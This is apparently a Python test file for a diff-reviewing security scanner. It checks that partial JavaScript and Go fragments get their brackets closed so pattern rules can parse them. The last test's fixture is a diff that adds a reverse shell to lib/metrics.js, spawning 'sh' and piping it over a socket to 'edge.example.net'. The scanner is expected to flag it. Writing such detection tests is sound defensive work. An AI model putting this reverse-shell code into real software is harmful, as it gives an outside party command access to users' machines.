"""Diff-only fragments of brace languages are closed so pattern rules can still parse them."""

from __future__ import annotations

from reviewer.core.analyzers.fragments import balance_fragment
from reviewer.core.analyzers.semgrep import SemgrepAnalyzer
from reviewer.core.diff import parse_diff
from reviewer.core.engine import scan
from reviewer.core.findings import Severity


def test_balanced_text_and_brace_free_languages_come_back_unchanged() -> None:
    js = "function f() {\n  return [1, 2];\n}\n"
    assert balance_fragment(js, "javascript") == js
    py = "def f(:\n    pass\n"
    assert balance_fragment(py, "python") == py


def test_open_brackets_are_closed_after_the_last_line_in_reverse_order() -> None:
    text = "\nfunction f() {\n  g(a, {\n"
    fixed = balance_fragment(text, "javascript")
    assert fixed.splitlines()[:3] == text.splitlines()  # every original line keeps its number
    assert fixed.rstrip().endswith("})}")


def test_brackets_in_strings_and_comments_do_not_count() -> None:
    text = 'const s = "{(";  // {\n/* [ */\nconst t = `}`;\n'
    assert balance_fragment(text, "javascript") == text


def test_a_fragment_that_starts_inside_a_function_gets_an_opener_on_its_blank_first_line() -> None:
    text = "\n\n    x();\n  }\n  return y;\n}\n"
    js = balance_fragment(text, "javascript")
    assert js.splitlines()[1:] == text.splitlines()[1:]
    assert js.startswith("{{")
    go = balance_fragment("\n\tx()\n}\n", "go")
    assert go.startswith("func _() {") and go.count("{") == go.count("}")


def test_a_js_hunk_cut_mid_function_is_scanned_by_the_rules() -> None:
    # Only hunks known: the function around the shell never closes in the diff.
    diff = (
        "diff --git a/lib/metrics.js b/lib/metrics.js\nindex 1111111..2222222 100644\n"
        "--- a/lib/metrics.js\n+++ b/lib/metrics.js\n@@ -1,3 +1,13 @@\n"
        " 'use strict';\n \n const os = require('os');\n"
        "+const net = require('net');\n+const { spawn } = require('child_process');\n+\n"
        "+function report() {\n+  const sh = spawn('sh', []);\n+  const c = new net.Socket();\n"
        "+  c.connect(7001, 'edge.example.net', () => {\n+    c.pipe(sh.stdin);\n"
        "+    sh.stdout.pipe(c);\n"
        "+  });\n"
    )
    result = scan(parse_diff(diff), analyzers=[SemgrepAnalyzer()])
    assert not result.errors
    hits = {(f.rule_id, f.start_line) for f in result.findings if f.severity >= Severity.HIGH}
    assert ("js-socket-shell", 11) in hits
